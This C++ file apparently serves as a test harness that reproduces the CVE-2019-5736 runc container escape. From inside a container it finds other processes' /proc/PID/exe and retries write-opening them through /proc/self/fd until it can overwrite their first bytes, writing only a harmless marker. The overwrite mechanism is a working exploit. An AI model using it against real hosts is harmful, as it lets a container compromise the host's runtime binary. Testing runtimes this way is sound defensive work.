// CVE-2019-5736 attacker, run as a container's init (static, so that it runs in any rootfs).
// It watches the container's PID namespace for processes that are not itself, opens their /proc/PID/exe
// (O_RDONLY and O_PATH), and keeps trying to reopen each such file for writing through /proc/self/fd/N
// (ETXTBSY while something executes it). Once it may write, it overwrites the first bytes with a marker.
// Usage: exe_attacker REPORT STOP_FILE: every event is a line of REPORT; it ends when STOP_FILE appears
// (after one last write attempt) or after 60 seconds, with a last line "done".
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <map>
#include <set>
#include <string>
#include <vector>

namespace {

FILE* report;

void note(const std::string& line) {
    std::fprintf(report, "%s\n", line.c_str());
    std::fflush(report);
}

struct Held {
    int fd;  // -1 once the write was refused
    std::string what;
    struct stat file;
    int flags;
};

bool same_file(const struct stat& a, const struct stat& b) { return a.st_dev == b.st_dev && a.st_ino == b.st_ino; }

// Returns true when the attack wrote into the file.
bool try_write(Held& h, std::vector<std::string>& refusals, bool last_chance) {
    std::string path = "/proc/self/fd/" + std::to_string(h.fd);
    int fd = ::open(path.c_str(), O_WRONLY);
    if (fd < 0) {
        if (errno == ETXTBSY && !last_chance) return false;
        refusals.push_back("write-open refused " + h.what + ": " + std::strerror(errno));
        ::close(h.fd);
        h.fd = -1;
        return false;
    }
    const char marker[] = "CVE-2019-5736";
    bool wrote = ::pwrite(fd, marker, sizeof marker - 1, 0) == static_cast<ssize_t>(sizeof marker - 1);
    note(std::string(wrote ? "WROTE " : "write failed ") + h.what);
    ::close(fd);
    return wrote;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 3) return 2;
    report = std::fopen(argv[1], "w");
    if (!report) return 2;
    std::string stop_file = argv[2];
    struct stat own {};
    ::stat("/proc/self/exe", &own);
    std::string self = std::to_string(::getpid());
    std::set<std::string> seen;
    std::set<std::string> reported_refusal;
    std::vector<Held> held;
    std::vector<std::string> refusals;
    time_t deadline = std::time(nullptr) + 60;
    for (;;) {
        bool stopping = ::access(stop_file.c_str(), F_OK) == 0 || std::time(nullptr) > deadline;
        if (DIR* dir = ::opendir("/proc")) {
            while (dirent* e = ::readdir(dir)) {
                std::string pid = e->d_name;
                if (pid.empty() || pid.find_first_not_of("0123456789") != std::string::npos || pid == self) continue;
                if (seen.insert(pid).second) note("saw " + pid);
                std::string exe = "/proc/" + pid + "/exe";
                for (int flags : {O_RDONLY, O_PATH}) {
                    int fd = ::open(exe.c_str(), flags | O_CLOEXEC);
                    std::string what = exe + (flags == O_PATH ? " (O_PATH)" : " (O_RDONLY)");
                    if (fd < 0) {
                        // ENOENT: the process went away, or it is a kernel thread.
                        if (errno != ENOENT && reported_refusal.insert(what + std::strerror(errno)).second)
                            note("exe-open refused " + what + ": " + std::strerror(errno));
                        continue;
                    }
                    struct stat st {};
                    bool keep = ::fstat(fd, &st) == 0 && !same_file(st, own);
                    // Each file is attacked once through an O_RDONLY fd and once through an O_PATH one.
                    for (const auto& h : held)
                        if (h.flags == flags && same_file(h.file, st)) keep = false;
                    // busybox is the container's own program: not the runtime.
                    char link[4096];
                    ssize_t n = ::readlink(exe.c_str(), link, sizeof link - 1);
                    if (n > 0 && std::string(link, static_cast<size_t>(n)).find("busybox") != std::string::npos) keep = false;
                    if (!keep) {
                        ::close(fd);
                        continue;
                    }
                    note("exe-opened " + what + " -> " + (n > 0 ? std::string(link, static_cast<size_t>(n)) : "?"));
                    held.push_back({fd, what, st, flags});
                }
            }
            ::closedir(dir);
        }
        for (auto& h : held) {
            if (h.fd < 0) continue;
            if (try_write(h, refusals, stopping)) {
                note("done");
                return 0;
            }
        }
        for (const auto& r : refusals) note(r);
        refusals.clear();
        if (stopping) break;
        ::usleep(200);
    }
    note("done");
    return 0;
}
